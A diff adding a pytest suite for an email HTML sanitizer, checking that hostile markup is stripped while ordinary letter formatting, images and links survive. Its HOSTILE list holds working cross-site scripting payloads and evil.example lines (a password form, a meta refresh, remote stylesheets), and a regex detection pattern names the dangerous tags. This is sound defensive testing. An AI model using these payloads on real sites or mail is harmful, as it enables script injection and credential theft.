@@ -1,0 +1,105 @@
+"""HTML of strangers: nothing that runs, calls or draws outside of its place; what a letter looks like stays."""
+
+from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gateway.mime.safe_html import safe_html, text_as_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVa&#9;ScRiPt:alert(1)">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    '<img src=x onerror="alert(1)">',
+    "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
+    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
+    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
+    '<form action="https://evil.example"><input name=password><button>x</button></form>',
+    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
+    '<p style="background:url(https://evil.example/x);position:fixed;top:0">x</p>',
+    '<p style="background-color:expression(alert(1));color:u\\72l(x)">x</p>',
+    '<p style="width:/**/url(javascript:x)">x</p>',
+    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- > <script>alert(1)</script> -->",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template><title><script>alert(1)</script></title>",
+    '<table background="javascript:alert(1)"><td background="data:text/html,x">x</table>',
+    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
+]
+_RUNS = re.compile(
+    r"<\s*/?\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|video|audio|template|noscript)\b"
+    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:(?!image/(png|gif|jpe?g|webp|bmp))|expression|url\(|position|@import",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_nothing_of_a_stranger_runs_or_calls(html: str) -> None:
+    found = safe_html(f"<p>before</p>{html}<p>after</p>")
+    assert not _RUNS.search(found), found
+    assert "<p>before</p>" in found
+
+
+class Reader(HTMLParser):
+    """Another reader than the cleaner's: what it takes for elements and attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.seen: list[tuple[str, dict[str, str]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.seen.append((tag, {name: value or "" for name, value in attrs}))
+
+
+@given(st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(alphabet="<>\"'/ =ab&;:-!", max_size=12))).map("".join))
+def test_another_reader_finds_nothing_that_runs_either(html: str) -> None:
+    for tag, attributes in Reader(safe_html(html)).seen:
+        assert not _RUNS.search(f"<{tag} ")
+        for name, value in attributes.items():
+            assert not name.startswith("on")
+            assert not (name in ("href", "src", "style") and _RUNS.search(value)), value
+
+
+def test_looks_of_a_letter_stay() -> None:
+    html = (
+        '<table width="600" bgcolor="#eeeeee"><tr><td align="center" style="color:red;padding:4px">'
+        '<font size="2">Hi</font> <img src="cid:logo@x" alt="Logo"> <img src="https://x.example/a.png">'
+        '<img src="data:image/png;base64,AAAA"> <a href="https://x.example/?a=1&amp;b=2">link</a></td></tr></table>'
+    )
+    found = safe_html(f"<html><head><title>T</title></head><body>{html}</body></html>")
+    for piece in (
+        'bgcolor="#eeeeee"',
+        "color:red",
+        "padding:4px",
+        '<img src="cid:logo@x" alt="Logo">',
+        'src="https://x.example/a.png"',
+        'src="data:image/png;base64,AAAA"',
+        'href="https://x.example/?a=1&amp;b=2"',
+        'rel="noopener noreferrer"',
+    ):
+        assert piece in found
+    assert "T" not in safe_html("<title>T</title>")
+
+
+@pytest.mark.parametrize("html", ["<div>" * 300_000 + "x", "<b>" * 100_000, "<table>" * 100_000, "<p><b>" * 100_000])
+def test_depth_does_not_cost_time(html: str) -> None:
+    """The library's time grows with the square of the depth: a letter of a megabyte would take minutes."""
+    began = time.process_time()
+    safe_html(html)
+    assert time.process_time() - began < 5
+
+
+def test_plain_text_keeps_its_lines_and_cannot_become_markup() -> None:
+    assert text_as_html("a < b\n <b>&") == '<div style="white-space:pre-wrap">a &lt; b\n &lt;b&gt;&amp;</div>'
